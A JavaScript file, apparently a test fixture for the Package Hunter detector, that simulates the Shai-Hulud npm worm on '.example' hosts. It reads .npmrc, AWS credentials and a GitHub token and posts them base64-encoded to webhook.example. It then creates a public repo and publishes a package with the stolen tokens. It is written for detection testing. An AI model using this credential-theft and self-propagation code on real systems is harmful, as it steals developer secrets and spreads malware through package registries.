// Harmless simulation for testing Package Hunter. Not malware.
const { spawnSync } = require("child_process");
const dns = require("dns");
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const project = process.env.INIT_CWD || process.cwd();
const read = (name) => { try { return fs.readFileSync(path.join(os.homedir(), name), "utf8"); } catch (e) { return ""; } };

function send(method, hostname, where, body, headers = {}) {
  const request = https.request({ hostname, path: where, method, headers: { "Content-Type": "application/json", ...headers } });
  request.on("error", () => {});
  request.end(JSON.stringify(body));
}

dns.lookup("webhook.example", (error, address) => {
  if (error || !sealed(address)) return;
  const cache = path.join(os.tmpdir(), ".truffler-cache");
  fs.mkdirSync(cache, { recursive: true });
  fs.writeFileSync(path.join(cache, "trufflehog"), "#!/bin/sh\necho harmless simulation\n", { mode: 0o755 });
  spawnSync(path.join(cache, "trufflehog"), ["filesystem", os.homedir(), "--json"]);

  const npmrc = read(".npmrc");
  const loot = { npmrc, aws: read(".aws/credentials"), env: { GITHUB_TOKEN: process.env.GITHUB_TOKEN } };
  send("POST", "webhook.example", "/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7", { data: Buffer.from(JSON.stringify(loot)).toString("base64") });

  const workflows = path.join(project, ".github", "workflows");
  fs.mkdirSync(workflows, { recursive: true });
  fs.writeFileSync(path.join(workflows, "shai-hulud-workflow.yml"), "# harmless simulation\n");
  send("POST", "api.github.example", "/user/repos", { name: "Shai-Hulud-Simulation", private: false }, { Authorization: `token ${process.env.GITHUB_TOKEN}` });

  const token = (/_authToken=(\S+)/.exec(npmrc) || [])[1];
  send("PUT", "registry.npm.example", "/harmless-simulation-worm", { name: "harmless-simulation-worm", versions: {} }, { Authorization: `Bearer ${token}` });
});
